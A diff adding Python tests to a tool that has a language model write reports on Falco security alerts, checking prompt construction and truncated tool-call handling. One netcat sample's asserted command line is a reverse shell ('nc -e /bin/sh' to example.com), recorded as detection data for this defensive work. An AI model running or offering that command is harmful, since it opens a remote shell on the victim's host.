@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import copy
 import importlib.util
 import json
@@ -32,6 +33,7 @@ from falco_reporter.reporting.service import ReportService
 from tests.samples import REAL_DIR, REAL_SAMPLES
 
 SHELL_SAMPLE = "syscall_terminal_shell_in_container_0_43.json"
+NETCAT_SAMPLE = "syscall_netcat_remote_code_execution_in_container.json"
 EPHEMERAL = "https://kubernetes.io/docs/concepts/workloads/pods/ephemeral-containers/"
 
 
@@ -213,6 +215,30 @@ async def test_prompt_has_rules_and_three_delimited_data_blocks(kb: KnowledgeBas
     assert blocks["knowledge_entry"]["baseline"]["verdict"] == "suspicious"
 
 
+async def test_prompt_sends_the_output_message_once_and_names_the_evidence_ids(kb: KnowledgeBase) -> None:
+    """A modern output line's key=value tail repeats the fields, so only its message is sent; the ids to cite are named."""
+    fake = ToolCallingFake(responses=[tool_reply(good_answer())])
+    with contextlib.suppress(WriterFailed):  # the prompt is what matters here, not this answer's fate
+        await LLMWriter(config(), kb, model=fake).write(context(real_alert(NETCAT_SAMPLE)))
+    text = str(fake.prompts[0][1].content)
+    alert = json.loads(text.split("<alert_data>", 1)[1].split("</alert_data>", 1)[0])
+    assert alert["output"] == "Netcat runs inside container that allows remote code execution"
+    assert alert["fields"]["proc.cmdline"] == "nc -e /bin/sh example.com 22"
+    assert text.splitlines()[-1] == (
+        "Answer: summary in full sentences naming `nc` and `eventgen`; analysis in 3 to 5 sentences of "
+        "your own; verdict_reason: why the verdict is likely-benign, naming one of the evidence ids "
+        "netcat-exec, actor-falco-event-generator, known-cause-1."
+    )
+    # An older line (values in parentheses, fewer fields) is sent whole.
+    fake = ToolCallingFake(responses=[tool_reply(good_answer())])
+    with contextlib.suppress(WriterFailed):
+        await LLMWriter(config(), kb, model=fake).write(
+            context(real_alert("syscall_write_below_binary_dir_legacy.json"))
+        )
+    text = str(fake.prompts[0][1].content)
+    assert "(user=root command=touch /bin/hack file=/bin/hack)" in text
+
+
 async def test_text_answer_with_fences_and_raw_newlines_is_parsed(kb: KnowledgeBase) -> None:
     """A model without tool calling answers in text: fenced JSON with raw newlines in strings still parses."""
     analysis = (
@@ -303,6 +329,35 @@ async def test_truncated_answer_is_invalid(kb: KnowledgeBase) -> None:
     outcome = writer._interpret(cut, cut)
     assert outcome.answer is None
     assert "cut off at max_tokens" in outcome.problems[0]
+
+
+async def test_tool_arguments_cut_off_under_a_tool_calls_finish_reason_are_truncation(
+    kb: KnowledgeBase,
+) -> None:
+    """llama.cpp says finish_reason tool_calls when max_tokens cut the arguments; the problem says cut off, not bad JSON."""
+    args = json.dumps(good_answer())
+    writer = LLMWriter(config(), kb, model=TextFake(responses=["unused"]))
+    cut = AIMessage(
+        content="",
+        invalid_tool_calls=[
+            {
+                "name": "LLMAnswer",
+                "args": args[:300],
+                "id": "c1",
+                "error": "bad json",
+                "type": "invalid_tool_call",
+            }
+        ],
+        response_metadata={"finish_reason": "tool_calls"},
+    )
+    result = {"raw": cut, "parsed": None, "parsing_error": ValueError("Expecting ',' delimiter")}
+    assert writer._interpret(result, cut).problems == ["the answer was cut off at max_tokens (1500)"]
+    # Complete but malformed arguments stay a schema problem.
+    bad = cut.model_copy(
+        update={"invalid_tool_calls": [{**cut.invalid_tool_calls[0], "args": '{"summary": 1,}'}]}
+    )
+    result = {"raw": bad, "parsed": None, "parsing_error": ValueError("Expecting property name")}
+    assert "cut off" not in writer._interpret(result, bad).problems[0]
 
 
 async def test_timeout_falls_back_with_reason(kb: KnowledgeBase) -> None:
